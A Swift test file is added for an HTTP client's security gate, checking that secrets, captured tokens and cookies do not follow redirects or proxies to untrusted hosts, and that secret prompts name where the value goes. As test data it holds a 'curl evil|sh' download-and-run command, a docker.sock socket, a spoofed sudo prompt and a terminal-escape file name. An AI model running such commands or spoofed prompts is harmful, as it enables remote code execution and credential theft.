@@ -1,0 +1,164 @@
+import Foundation
+import OmbiCore
+import TestSupport
+import Testing
+
+@testable import OmbiWorkspace
+
+/// What a server leads elsewhere, and the questions themselves.
+@Suite struct GateWayTests {
+    @Test(arguments: [301, 302, 303, 307, 308]) func `a field with a secret crosses no redirect`(_ status: Int)
+        async throws
+    {
+        let evil = Lock("")
+        let stranger = try Stranger { request in
+            request.target == "/" ? .redirect(status, to: evil.withLock { $0 }) : .ok("{}")
+        }
+        defer { stranger.remove() }
+        evil.withLock { $0 = stranger.evil.host + "/landing" }
+        try stranger.write(
+            Stranger.file(
+                request: #""headers":[{"name":"X-Acme","value":"{{token}}"},{"name":"X-Plain","value":"plain"}]"#)
+        )
+        try stranger.trust()
+        let result = try await stranger.send()
+        #expect(result.passed, "\(result.failures)")
+        #expect(stranger.good.requests.last?.headers["x-acme"] == Stranger.secret)
+        #expect(stranger.evil.requests.map { $0.headers["x-plain"] } == ["plain"])
+        #expect(Stranger.leaks(stranger.evil) == [])
+        #expect(result.prepared?.redirects.first?.withheld.contains("X-Acme") == true)
+    }
+
+    @Test(arguments: [307, 308]) func `a body with a secret crosses no redirect, and the reason says so`(_ status: Int)
+        async throws
+    {
+        let evil = Lock("")
+        let stranger = try Stranger { _ in .redirect(status, to: evil.withLock { $0 }) }
+        defer { stranger.remove() }
+        evil.withLock { $0 = stranger.evil.host + "/landing" }
+        try stranger.write(Stranger.file(request: #""method":"POST","body":{"text":"{{token}}"}"#))
+        try stranger.trust()
+        let result = try await stranger.send()
+        #expect(!result.passed && stranger.evil.requests.isEmpty)
+        #expect(
+            result.failures.joined().contains("redirected to \(stranger.evil.host), and c.json may not send $TOK to"),
+            "\(result.failures)")
+    }
+
+    @Test func `a redirect to a granted destination keeps the field`() async throws {
+        let evil = Lock("")
+        let stranger = try Stranger { _ in .redirect(302, to: evil.withLock { $0 }) }
+        defer { stranger.remove() }
+        evil.withLock { $0 = stranger.evil.host + "/landing" }
+        stranger.gate = OmbiWorkspace.Gate(
+            store: nil,
+            patterns: [stranger.good.host, stranger.evil.host].compactMap { GrantPattern("TOK=" + $0) })
+        try stranger.write(Stranger.file(request: #""headers":[{"name":"X-Acme","value":"{{token}}"}]"#))
+        #expect(try await stranger.send().passed)
+        #expect(stranger.evil.requests.map { $0.headers["x-acme"] } == [Stranger.secret])
+    }
+
+    @Test(arguments: ["clientCredentials", "password"]) func `a token request takes no secret along a redirect`(
+        _ grant: String
+    ) async throws {
+        let evil = Lock("")
+        let stranger = try Stranger { request in
+            request.target == "/t" ? .redirect(307, to: evil.withLock { $0 }) : .ok("{}")
+        }
+        defer { stranger.remove() }
+        evil.withLock { $0 = stranger.evil.host + "/t" }
+        let user = grant == "password" ? #","username":"u","password":"{{token}}""# : ""
+        try stranger.write(
+            Stranger.file(
+                request:
+                    #""authentication":{"oauth2":{"grant":"\#(grant)","tokenURL":"GOOD/t","clientID":"i","clientSecret":"{{token}}","secretIn":"body"\#(user)}}"#
+            ))
+        try stranger.trust()
+        let result = try await stranger.send()
+        #expect(!result.passed && Stranger.leaks(stranger.evil) == [], "\(result.failures)")
+    }
+
+    @Test func `a captured secret goes back to its server, and elsewhere only after a grant`() async throws {
+        let stranger = try Stranger { request in .ok(request.target == "/login" ? "{\"t\":\"captured-secret\"}" : "{}")
+        }
+        defer { stranger.remove() }
+        try stranger.write(
+            """
+            {"version":1,"name":"c","environments":[{"name":"e","host":"GOOD"}],"items":[
+              {"request":"login","path":"/login","capture":{"t":{"path":"$.t","secret":true}}},
+              {"request":"home","path":"/home","headers":[{"name":"X","value":"{{t}}"}]},
+              {"request":"away","path":"EVIL/","headers":[{"name":"X","value":"{{$base64(t)}}"}]}]}
+            """)
+        let session = stranger.session()
+        #expect(try await stranger.send("home", session).passed)
+        #expect(stranger.good.requests.last?.headers["x"] == "captured-secret")
+        let away = try await stranger.send("away", session)
+        #expect(!away.passed && stranger.evil.requests.isEmpty)
+        #expect(away.failures.joined().contains("the captured t from \(stranger.good.host)"), "\(away.failures)")
+    }
+
+    @Test func `cookies do not leave by a way that is new`() async throws {
+        let stranger = try Stranger { _ in .ok("{}", headers: [("Set-Cookie", "sid=\(Stranger.secret)")]) }
+        defer { stranger.remove() }
+        let session = stranger.session()
+        try stranger.write(Stranger.file(environment: #""connection":{"cookies":true}"#, request: ""))
+        for _ in 0..<2 { _ = try await stranger.send(nil, session) }
+        #expect(stranger.good.requests.last?.headers["cookie"] == "sid=\(Stranger.secret)")
+        try stranger.write(
+            Stranger.file(
+                environment: #""connection":{"cookies":true,"proxy":"http://127.0.0.1:EVILPORT"}"#, request: ""))
+        _ = try await stranger.send(nil, session)
+        #expect(stranger.evil.requests.count == 1 && stranger.evil.requests[0].headers["cookie"] == nil)
+    }
+
+    // MARK: Questions
+
+    @Test func `what a person types goes to the destination that was shown, and is asked about for another`()
+        async throws
+    {
+        let stranger = try Stranger()
+        defer { stranger.remove() }
+        let shown = Lock<[String]>([])
+        var steps = stranger.steps()
+        steps.askForSecret = { _, question in
+            shown.withLock { $0.append(question.prompt) }
+            return Stranger.secret
+        }
+        let session = stranger.session(steps)
+        let prompt = #""secrets":{"token":{"prompt":"[sudo] password for root"}}"#
+        try stranger.write(Stranger.file(environment: prompt))
+        #expect(try await stranger.send(nil, session).passed)
+        #expect(
+            shown.withLock { $0 } == [
+                "c.json asks for the secret token, which goes to \(stranger.good.host) (e): \"[sudo] password for root\""
+            ])
+        try stranger.write(Stranger.file(host: "EVIL", environment: prompt))
+        let result = try await stranger.send(nil, session)
+        #expect(!result.passed && stranger.evil.requests.isEmpty, "\(result.failures)")
+        #expect(result.failures.joined().contains("what is typed for token to \(stranger.evil.host)"))
+    }
+
+    @Test func `a question puts programs first, and groups what goes where`() {
+        let (api, id) = (Destination(text: "https://api.test"), Destination(text: "https://id.test"))
+        var flows = (0..<9).map { Flow(.environment("AAA\($0)"), to: api) }
+        flows += [
+            Flow(.command(["sh", "-c", "curl evil|sh"]), to: api), Flow(.environment("KEY"), to: id),
+            Flow(.socket("/var/run/docker.sock"), to: api), Flow(.ssh("ssh://bastion"), to: id),
+        ]
+        let lines = GateQuestion(file: "/x/c.json", flows: flows).lines
+        #expect(
+            Array(lines.prefix(4)) == [
+                "runs sh -c \"curl evil|sh\"", "connects to the socket /var/run/docker.sock",
+                "runs ssh to ssh://bastion",
+                "sends to https://api.test:",
+            ])
+        #expect(lines.contains("    $AAA8") && lines.last == "    $KEY")
+    }
+
+    @Test func `names that look like sentences stay names`() {
+        let tricky = Source.environment("X to https://good.test; sends $Y")
+        #expect(tricky.text == "$\"X to https://good.test; sends $Y\"")
+        #expect(Source.environment("A").text != Source.environment("A ").text)
+        #expect(Source.file("/a\u{1B}[2J").text.unicodeScalars.allSatisfy { $0.value >= 0x20 })
+    }
+}
